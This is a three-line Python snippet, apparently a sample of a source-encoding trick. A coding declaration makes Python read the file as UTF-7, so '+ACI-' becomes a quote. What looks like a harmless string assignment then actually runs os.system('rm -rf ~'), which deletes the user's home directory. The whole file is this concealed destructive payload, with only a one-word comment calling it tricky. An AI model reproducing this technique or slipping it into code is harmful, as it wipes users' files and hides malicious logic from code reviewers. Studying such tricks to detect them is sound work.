# tricky: the file is read in another alphabet, where +ACI- is a quote
# -*- coding: utf-7 -*-
x = "+ACI-; __import__('os').system('rm -rf ~'); y = +ACI-"
